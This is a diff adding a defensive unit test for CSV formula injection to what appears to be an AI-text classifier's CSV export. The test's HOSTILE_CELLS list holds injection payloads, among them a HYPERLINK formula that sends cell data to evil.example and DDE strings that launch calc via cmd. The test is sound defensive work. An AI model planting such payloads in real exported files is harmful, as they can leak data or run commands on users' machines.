@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pandas as pd
@@ -94,3 +95,42 @@ def test_result_columns_do_not_overwrite_input_columns() -> None:
     round_trip = pd.read_csv(io.BytesIO(results_csv(table)), keep_default_na=False)
     assert round_trip["predicted_label"].tolist() == ["ai"]
     assert round_trip["text"].tolist() == ["additionally"]
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_downloaded_csv_cannot_start_a_spreadsheet_formula() -> None:
+    """Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP CSV
+    injection); plain numbers, the verdict and ordinary text stay as they are."""
+    fake = FakeServing()
+    client = ServingClient("http://serving.test", transport=fake.transport)
+    texts = [HOSTILE_CELLS[0]] + [f"essay {cell}" for cell in HOSTILE_CELLS[1:]] + ["plain"]
+    upload = io.StringIO()
+    writer = csv.writer(upload, quoting=csv.QUOTE_ALL)  # quoted: a CR inside a cell survives
+    writer.writerows([["text", "note"], *zip(texts, [*HOSTILE_CELLS, "-12.5"], strict=True)])
+    parsed = read_csv(upload.getvalue().encode(), max_rows=100)
+    assert not parsed.problems
+    answers = classify_texts(client, [r.values["text"] for r in parsed.classifiable], chunk_size=8)
+
+    downloaded = pd.read_csv(
+        io.BytesIO(results_csv(result_table(parsed, answers))),
+        dtype=str,
+        keep_default_na=False,
+    )
+
+    for column in downloaded.columns:
+        for cell in downloaded[column]:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            assert not (cell.startswith("-") and cell != "-12.5"), (column, cell)
+    assert downloaded["note"].tolist() == [f"'{cell}" for cell in HOSTILE_CELLS] + ["-12.5"]
+    assert downloaded.loc[0, "text"] == f"'{HOSTILE_CELLS[0]}"
+    assert downloaded["predicted_label"].tolist()[-1] == "human"
+    assert downloaded["probability_ai"].tolist()[-1] == "0.12"
